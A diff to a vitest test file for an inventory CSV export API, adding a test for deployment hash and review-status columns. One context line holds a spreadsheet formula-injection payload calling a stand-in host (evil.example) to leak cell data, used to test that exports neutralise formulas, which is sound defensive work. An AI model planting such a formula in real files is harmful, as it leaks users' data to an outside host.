@@ -2,13 +2,16 @@ import { mapInOrder } from '@/lib/map-in-order';
 import { eq } from 'drizzle-orm';
 import { beforeAll, describe, expect, it } from 'vitest';
 import * as route from '@/app/api/v1/exports/inventory.csv/route';
-import { unguardedWriter } from '@/db';
+import { unguardedWriter, withTransaction } from '@/db';
 import { modelVersions } from '@/db/schema';
 import { systemActor, type Actor } from '@/lib/auth/actor';
 import { createApiToken } from '@/lib/auth/create-api-token';
 import { createModel } from '@/lib/inventory/create-model';
 import { createModelVersion } from '@/lib/inventory/create-model-version';
 import { listSystems } from '@/lib/inventory/queries';
+import { retireSystem } from '@/lib/inventory/retire-system';
+import { reportDeployment } from '@/lib/lineage/report-deployment';
+import { addReviewTrigger } from '@/lib/reviews/add-review-trigger';
 import { ZListSystemsQuery } from '@/lib/inventory/schemas';
 import { makeActor, makeSystem } from '@/lib/testing';
 import { INVENTORY_COLUMNS } from './export-inventory';
@@ -18,6 +21,7 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 let ds: Actor;
 let token: string;
 let formulaSystemId: string;
+let liveId: string;
 
 beforeAll(async () => {
   ds = await makeActor(['data_scientist']);
@@ -29,6 +33,7 @@ beforeAll(async () => {
   const live = await createModelVersion(ds, { modelId: scorer.id, version: '2.0', artifactSha256: 'b'.repeat(64), format: 'onnx' });
   // Promotion has its own tests; here a version only needs to be in production.
   await unguardedWriter().update(modelVersions).set({ stage: 'production', stageChangedAt: '2026-01-02T03:04:05.000Z' }).where(eq(modelVersions.id, live.id));
+  liveId = live.id;
   await createModel(ds, { systemId: system.id, name: 'explainer' });
   await makeSystem(ds, { name: 'Bare system', riskTier: 'minimal' });
   for (let i = 0; i < 510; i++) await makeSystem(ds, { name: 'Same name', riskTier: 'limited' });
@@ -63,6 +68,25 @@ describe('GET /api/v1/exports/inventory.csv', () => {
     });
   });
 
+  it('says whether production runs the approved bytes, and each system’s review status as the reviews page does', async () => {
+    const scorer = (await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token)).records.find((r) => r.Model === 'scorer')!;
+    expect(scorer['Production services report']).toBe('no service has reported');
+    await reportDeployment(ds, { environment: 'production', endpoint: 'https://scorer.internal/a', reportedSha256: 'b'.repeat(64), modelVersionId: liveId });
+    await reportDeployment(ds, { environment: 'production', endpoint: 'https://scorer.internal/b', reportedSha256: 'c'.repeat(64), modelVersionId: liveId });
+    const systemId = scorer['System ID']!;
+    await withTransaction(async (tx) => await addReviewTrigger(tx, systemActor('test'), { systemId, reason: 'critical_finding', detail: 'A critical finding.' }));
+    const retiredSystem = await makeSystem(ds, { name: 'Retired with a date', riskTier: 'minimal', nextReviewDate: '2030-01-01' });
+    await retireSystem(ds, retiredSystem.id, { reason: 'Replaced.' });
+    const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
+    expect(records.find((r) => r.Model === 'scorer')).toMatchObject({
+      'Production services report': `matches at https://scorer.internal/a; DIFFERS at https://scorer.internal/b: runs ${'c'.repeat(64)}`,
+      'Review status': 'due now',
+    });
+    expect(records.find((r) => r.Model === 'explainer')!['Production services report']).toBe('');
+    expect(records.find((r) => r.System === 'Retired with a date')).toMatchObject({ 'Next review date': '', 'Review status': 'none: retired' });
+    expect(records.find((r) => r.System === 'Bare system')!['Review status']).toBe('not scheduled');
+  });
+
   it('neutralises formulas in names, purposes and owners', async () => {
     const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
     const row = records.find((r) => r['System ID'] === formulaSystemId)!;
@@ -76,7 +100,8 @@ describe('GET /api/v1/exports/inventory.csv', () => {
     const same = records.filter((r) => r.System === 'Same name').map((r) => r['System ID']);
     expect(same).toHaveLength(510);
     expect(new Set(same).size).toBe(510);
-    expect(records).toHaveLength(513 + 8);
+    // As before, and the retired system the test above added.
+    expect(records).toHaveLength(513 + 8 + 1);
   });
 
   it('holds exactly the systems the list shows for the same filters and sort, in its order', async () => {
